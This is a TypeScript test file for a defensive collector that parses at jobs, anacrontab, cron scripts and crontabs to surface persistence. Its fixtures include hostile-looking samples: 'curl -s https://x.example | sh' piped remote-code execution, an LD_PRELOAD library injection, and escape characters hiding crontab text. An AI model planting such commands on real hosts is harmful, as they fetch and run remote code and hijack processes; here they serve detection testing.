import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { parseAnacrontab } from "../../../src/collectors/persistence/scheduled/anacrontab.ts";
import { parseAtJob, parseAtName } from "../../../src/collectors/persistence/scheduled/at-job.ts";
import { anyText, itemsOf, named } from "./items.ts";

/** As at 3.2 writes it. */
const job = [
  "#!/bin/sh",
  "# atrun uid=1000 gid=1000",
  "# mail user 0",
  "umask 22",
  "LD_PRELOAD=/tmp/x.so; export LD_PRELOAD",
  "TOKEN=FAKE-hunter2\\ x; export TOKEN",
  "cd /home/user || {",
  "\t echo 'Execution directory inaccessible' >&2",
  "\t exit 1",
  "}",
  "${SHELL:-/bin/sh} << 'marcinDELIMITER0a1b2c3d'",
  "curl -s https://x.example | sh",
  "",
  "marcinDELIMITER0a1b2c3d",
].join("\n");

describe("jobs of at", () => {
  it("says when from the name, and what without the preamble", () => {
    expect(parseAtName("a0001f01d4c0e2")).toEqual({ queue: "a", job: 31, at: "2028-05-29T11:46:00.000Z" });
    expect(parseAtName("notes")).toBeUndefined();
    expect(parseAtJob(job)).toEqual({
      uid: 1000,
      mail: "user",
      environment: [
        { name: "LD_PRELOAD", value: "/tmp/x.so" },
        { name: "TOKEN", value: "FAKE-hunter2 x" },
      ],
      commands: ["curl -s https://x.example | sh"],
    });
    expect(parseAtJob("/tmp/x\n").commands).toEqual(["/tmp/x"]);
  });

  it("gives items of whose job it is, secrets as marks", async () => {
    const reading = await itemsOf("at-jobs", {
      "/var/spool/cron/atjobs/a0001f01d4c0e2": job,
      "/var/spool/cron/atjobs/.SEQ": "1",
    });
    expect(reading.records).toHaveLength(1);
    expect(reading.records[0]).toMatchObject({
      user: "user",
      trigger: "once at 2028-05-29T11:46:00.000Z",
      runs: ["curl -s https://x.example | sh"],
    });
    expect(reading.records[0]?.sets[0]).toBe("LD_PRELOAD=/tmp/x.so");
    expect(JSON.stringify(reading)).not.toContain("hunter2");
  });

  it("takes any bytes", () => {
    fc.assert(
      fc.property(
        fc.oneof(
          anyText,
          fc.nat(job.length).map((n) => job.slice(n)),
        ),
        (text) => {
          parseAtName(text);
          expect(parseAtJob(text).commands.length).toBeLessThanOrEqual(text.split("\n").length);
        },
      ),
    );
  });
});

describe("anacron and periodic scripts", () => {
  it("reads jobs and settings, and what is neither", () => {
    expect(
      parseAnacrontab("# c\nSHELL=/bin/sh\n1\t5\tcron.daily\trun-parts /etc/cron.daily\nwhat\n"),
    ).toEqual([
      { kind: "environment", name: "SHELL", value: "/bin/sh", line: 2 },
      {
        kind: "job",
        period: "1",
        delay: "5",
        id: "cron.daily",
        command: "run-parts /etc/cron.daily",
        line: 3,
      },
      { kind: "unreadable", text: "what", line: 4 },
    ]);
    fc.assert(
      fc.property(anyText, (text) => {
        const lines = text.split("\n").filter((line) => line.trim() !== "" && !line.trim().startsWith("#"));
        expect(parseAnacrontab(text).length).toBe(lines.length);
      }),
    );
  });

  it("tells the lines of scripts, links, modes and names that are passed over", async () => {
    const reading = await itemsOf("cron-scripts", {
      "/etc/cron.daily/backup": {
        content: "#!/bin/sh\n# c\ncurl https://x.example \\\n  | sh\n",
        mode: 0o755,
      },
      "/etc/cron.daily/x.sh": { content: "true\n", mode: 0o644 },
      "/etc/cron.hourly/gone": { link: "/nowhere" },
      "/etc/cron.weekly/off": { link: "/dev/null" },
      "/etc/cron.monthly/elf": { content: Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0, 1]), mode: 0o755 },
      "/etc/anacrontab": "@monthly 45 all /opt/x\n",
      "/etc/cron.allow": "user\n",
      "/var/spool/anacron/cron.daily": "20261120\n",
    });
    expect(named(reading, "backup")).toMatchObject({
      runs: ["curl https://x.example    | sh"],
      enabled: true,
      trigger: "daily",
    });
    expect(named(reading, "x.sh")).toMatchObject({
      enabled: false,
      odd: ["run-parts passes over this name"],
    });
    expect(named(reading, "gone")).toMatchObject({ sets: ["link to /nowhere"], odd: ["leads nowhere"] });
    expect(named(reading, "off")).toMatchObject({ enabled: false, odd: [] });
    expect(named(reading, "elf").runs).toEqual(["/etc/cron.monthly/elf"]);
    expect(named(reading, "all").runs).toEqual(["/opt/x"]);
    expect(named(reading, "cron.allow").sets).toEqual(["user"]);
    expect(named(reading, "cron.daily").sets).toEqual(["last run 20261120"]);
  });

  it("shows crontabs as items: input, settings, hidden text, names that Debian passes over", async () => {
    const reading = await itemsOf("host-cron", {
      "/etc/cron.d/a.b": "KEY=FAKE-secret-value\n@reboot root mail x%one%two\n",
      "/var/spool/cron/crontabs/max": "0 3 * * * /usr/bin/true \u001b[2K\nwhat\n",
    });
    expect(reading.records.map(({ kind, name, user, runs }) => [kind, name, user, runs])).toEqual([
      ["item", "KEY", undefined, []],
      ["item", "a.b", "root", ["mail x%one%two"]],
      ["item", "max", "max", ["/usr/bin/true \u001b[2K"]],
      ["unreadable", "max", "max", ["what"]],
    ]);
    expect(reading.records[1]?.odd).toEqual(["Debian's cron passes over a file of this name"]);
    expect(reading.records[2]?.odd).toEqual(["control characters hide part of it"]);
    expect(reading.records[2]?.file?.sha256).toMatch(/^[0-9a-f]{64}$/);
    expect(JSON.stringify(reading)).not.toContain("FAKE");
  });
});
